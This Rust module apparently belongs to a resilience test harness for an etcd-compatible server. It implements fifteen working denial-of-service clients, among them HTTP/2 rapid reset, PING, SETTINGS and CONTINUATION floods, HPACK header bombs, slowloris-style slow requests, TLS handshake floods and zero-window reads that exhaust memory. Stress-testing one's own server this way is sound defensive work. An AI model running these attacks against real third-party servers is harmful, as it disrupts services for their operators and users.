//! The hostile clients themselves.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::Instant;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST, SETTINGS, bomb, frame,
    headers, opening,
};
use mainstay_proto::etcdserverpb as pb;

/// A way to do harm.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    IdleTcp,
    HalfHandshakes,
    Handshakes,
    SlowHeaders,
    SlowBodies,
    HalfMessages,
    EmptyStreams,
    RapidReset,
    PingFlood,
    SettingsFlood,
    ContinuationFlood,
    HeaderBombs,
    UnreadRanges,
    ZeroWindow,
    UnreadWatches,
}

use Attack::{
    ContinuationFlood, EmptyStreams, HalfHandshakes, HalfMessages, Handshakes, HeaderBombs,
    IdleTcp, PingFlood, RapidReset, SettingsFlood, SlowBodies, SlowHeaders, UnreadRanges,
    UnreadWatches, ZeroWindow,
};

/// All of them, and what they do.
pub(crate) const ALL: [(Attack, &str, &str); 15] = [
    (IdleTcp, "idle-tcp", "10,000 connections that say nothing"),
    (HalfHandshakes, "half-handshakes", "5,000 TLS handshakes that stop after the first message"),
    (Handshakes, "handshakes", "1,000 TLS handshakes a second, given up after the first message"),
    (SlowHeaders, "slow-headers", "2,000 HTTP/1 requests that end within 4 KiB of headers"),
    (SlowBodies, "slow-bodies", "500 bodies of JSON that end after 1 MiB of 2"),
    (HalfMessages, "half-messages", "1,000 connections with 60 KiB of a message of 2 MB"),
    (EmptyStreams, "empty-streams", "100 connections with 1,000 calls each without a message"),
    (RapidReset, "rapid-reset", "calls that are reset at once, as fast as they go"),
    (PingFlood, "ping-flood", "PING frames as fast as they go"),
    (SettingsFlood, "settings-flood", "SETTINGS frames as fast as they go"),
    (ContinuationFlood, "continuation-flood", "headers without end, as fast as they go"),
    (HeaderBombs, "header-bombs", "100 connections, 100 calls each whose headers unpack to 4 MB"),
    (UnreadRanges, "unread-ranges", "10 clients ask for 100 MB each and read nothing"),
    (ZeroWindow, "zero-window", "10 clients ask for 100 MB each and open no window"),
    (UnreadWatches, "unread-watches", "10,000 watches of the healthy client's key, never read"),
];

impl Attack {
    /// Whether it is made over TLS.
    pub(crate) fn tls(self) -> bool {
        matches!(self, HalfHandshakes | Handshakes)
    }

    /// Whether it is one that needs no permission for anything.
    pub(crate) fn anonymous(self) -> bool {
        !matches!(self, UnreadRanges | ZeroWindow | UnreadWatches)
    }
}

/// What became of it.
#[derive(Default)]
pub(crate) struct Outcome {
    /// Connections that were made.
    pub(crate) connected: AtomicU64,
    /// Connections that the server ended.
    pub(crate) closed: AtomicU64,
}

/// An attack on an address until a time.
pub(crate) struct Plan {
    pub(crate) attack: Attack,
    pub(crate) address: String,
    pub(crate) until: Instant,
    /// The first message of a handshake.
    pub(crate) hello: Vec<u8>,
    /// A key that the healthy client puts.
    pub(crate) key: &'static str,
    pub(crate) outcome: Arc<Outcome>,
}

const WATCH: &str = "/etcdserverpb.Watch/Watch";
const RANGE: &str = "/etcdserverpb.KV/Range";
/// A stream's window, where the client is to get all it can.
const WIDE: u32 = 0x7fff_ffff;

impl Plan {
    /// Attacks until the time is over.
    pub(crate) async fn run(self) {
        let plan = Arc::new(self);
        match plan.attack {
            IdleTcp => plan.hold(10_000, |_| Vec::new()).await,
            HalfHandshakes => plan.clone().hold(5_000, move |plan| plan.hello.clone()).await,
            Handshakes => plan.handshakes(1_000).await,
            SlowHeaders => plan.hold(2_000, |_| slow_headers()).await,
            SlowBodies => plan.hold(500, |_| slow_body()).await,
            HalfMessages => plan.hold(1_000, |_| half_message()).await,
            EmptyStreams => plan.hold(100, |_| empty_streams(1_000)).await,
            RapidReset => plan.flood(resets).await,
            PingFlood => plan.flood(|_| frame(PING, 0, 0, &[7; 8]).repeat(1_000)).await,
            SettingsFlood => plan.flood(|_| frame(SETTINGS, 0, 0, &[]).repeat(1_000)).await,
            ContinuationFlood => plan.flood(continuations).await,
            HeaderBombs => plan.hold(100, |_| bombs(100)).await,
            UnreadRanges => plan.unread(10, range(WIDE)).await,
            ZeroWindow => plan.unread(10, range(0)).await,
            UnreadWatches => plan.unread(10, watches(plan.key, 1_000)).await,
        }
    }

    async fn connect(&self) -> Option<TcpStream> {
        let socket = TcpStream::connect(&self.address).await.ok()?;
        self.outcome.connected.fetch_add(1, Ordering::Relaxed);
        Some(socket)
    }

    fn over(&self) -> bool {
        Instant::now() >= self.until
    }

    /// Holds so many connections that say one thing, and nothing after it.
    async fn hold(self: &Arc<Self>, count: usize, says: fn(&Plan) -> Vec<u8>) {
        let mut held = tokio::task::JoinSet::new();
        let text: Arc<[u8]> = says(self).into();
        for n in 0..count {
            if self.over() {
                break;
            }
            let (plan, text) = (Arc::clone(self), Arc::clone(&text));
            held.spawn(async move {
                let Some(mut socket) = plan.connect().await else { return };
                let mut buffer = [0; 4096];
                let talk = async {
                    let _ = socket.write_all(&text).await;
                    while socket.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
                };
                if tokio::time::timeout_at(plan.until, talk).await.is_ok() {
                    plan.outcome.closed.fetch_add(1, Ordering::Relaxed);
                }
            });
            // The kernel's queue of connections is short.
            if n % 100 == 99 {
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        }
        while held.join_next().await.is_some() {}
    }

    /// Two connections that say things as fast as they are heard, again and again.
    async fn flood(self: &Arc<Self>, says: fn(u32) -> Vec<u8>) {
        let one = || async {
            while !self.over() {
                if let Some(socket) = self.connect().await {
                    let talk = shout(socket, says);
                    if tokio::time::timeout_at(self.until, talk).await.is_ok() {
                        self.outcome.closed.fetch_add(1, Ordering::Relaxed);
                    }
                }
                tokio::time::sleep(Duration::from_millis(1)).await;
            }
        };
        tokio::join!(one(), one());
    }

    async fn handshakes(self: &Arc<Self>, per_second: u64) {
        let mut tasks = tokio::task::JoinSet::new();
        let mut tick = tokio::time::interval(Duration::from_micros(1_000_000 / per_second));
        while !self.over() {
            tick.tick().await;
            let plan = Arc::clone(self);
            tasks.spawn(async move {
                let Some(mut socket) = plan.connect().await else { return };
                let mut buffer = [0; 4096];
                let _ = socket.write_all(&plan.hello).await;
                // Its certificate has been signed for when it comes.
                let _ = tokio::time::timeout_at(plan.until, socket.read(&mut buffer)).await;
            });
            while tasks.try_join_next().is_some() {}
        }
    }

    /// Says one thing on so many connections, and reads nothing.
    async fn unread(self: &Arc<Self>, count: usize, text: Vec<u8>) {
        let mut held = Vec::new();
        for _ in 0..count {
            if let Some(mut socket) = self.connect().await {
                let _ = tokio::time::timeout_at(self.until, socket.write_all(&text)).await;
                held.push(socket);
            }
        }
        tokio::time::sleep_until(self.until).await;
    }
}

async fn shout(socket: TcpStream, says: fn(u32) -> Vec<u8>) {
    let (mut from, mut to) = socket.into_split();
    let hear = async {
        let mut buffer = [0; 65_536];
        while from.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
    };
    let say = async {
        if to.write_all(&opening(WIDE)).await.is_err() {
            return;
        }
        for turn in 0.. {
            if to.write_all(&says(turn)).await.is_err() {
                return;
            }
        }
    };
    tokio::select! {
        () = hear => {}
        () = say => {}
    }
}

fn slow_headers() -> Vec<u8> {
    let mut text = b"GET /health HTTP/1.1\r\nhost: bench\r\nx-long: ".to_vec();
    text.resize(4_096, b'a');
    text
}

fn slow_body() -> Vec<u8> {
    let head =
        "POST /v3/kv/range HTTP/1.1\r\nhost: bench\r\ncontent-length: 2000000\r\n\r\n{\"key\":\"";
    let mut text = head.as_bytes().to_vec();
    text.resize(1 << 20, b'a');
    text
}

fn half_message() -> Vec<u8> {
    let mut text = opening(WIDE);
    text.extend(frame(HEADERS, END_HEADERS, 1, &headers("/etcdserverpb.KV/Put")));
    let mut message = vec![0, 0, 0x1e, 0x84, 0x80];
    message.resize(15_000, 1);
    text.extend(frame(DATA, 0, 1, &message));
    for _ in 0..3 {
        text.extend(frame(DATA, 0, 1, &vec![1; 15_000]));
    }
    text
}

/// The number of a connection's `n`th call.
fn stream(n: u32) -> u32 {
    2 * n + 1
}

fn empty_streams(count: u32) -> Vec<u8> {
    let mut text = opening(WIDE);
    for n in 0..count {
        text.extend(frame(HEADERS, END_HEADERS, stream(n), &headers(WATCH)));
    }
    text
}

fn resets(turn: u32) -> Vec<u8> {
    let (mut text, block) = (Vec::new(), headers(RANGE));
    for n in 0..100 {
        let stream = stream(turn * 100 + n) & 0x7fff_ffff;
        text.extend(frame(HEADERS, END_HEADERS, stream, &block));
        text.extend(frame(RST, 0, stream, &[0, 0, 0, 8]));
    }
    text
}

fn continuations(turn: u32) -> Vec<u8> {
    let mut block = Vec::new();
    while block.len() < 16_000 {
        block.extend([0, 1, b'x', 100]);
        block.extend([b'v'; 100]);
    }
    if turn == 0 {
        return frame(HEADERS, 0, 1, &headers(RANGE));
    }
    frame(CONTINUATION, 0, 1, &block)
}

fn bombs(count: u32) -> Vec<u8> {
    let mut text = opening(WIDE);
    for n in 0..count {
        text.extend(frame(HEADERS, END_HEADERS, stream(n), &bomb(WATCH, n == 0)));
    }
    text
}

fn grpc(message: &impl prost::Message) -> Vec<u8> {
    let body = message.encode_to_vec();
    let mut framed = vec![0];
    framed.extend(u32::try_from(body.len()).unwrap_or(0).to_be_bytes());
    framed.extend(body);
    framed
}

/// A call for everything.
fn range(window: u32) -> Vec<u8> {
    let all = pb::RangeRequest {
        key: "bulk".into(),
        range_end: "bull".into(),
        serializable: true,
        ..Default::default()
    };
    let mut text = opening(window);
    text.extend(frame(HEADERS, END_HEADERS, 1, &headers(RANGE)));
    text.extend(frame(DATA, END_STREAM, 1, &grpc(&all)));
    text
}

fn watches(key: &'static str, count: u32) -> Vec<u8> {
    let create = pb::WatchCreateRequest { key: key.into(), prev_kv: true, ..Default::default() };
    let union = Some(pb::watch_request::RequestUnion::CreateRequest(create));
    let request = grpc(&pb::WatchRequest { request_union: union });
    let mut text = opening(65_535);
    for n in 0..count {
        text.extend(frame(HEADERS, END_HEADERS, stream(n), &headers(WATCH)));
        text.extend(frame(DATA, 0, stream(n), &request));
    }
    text
}
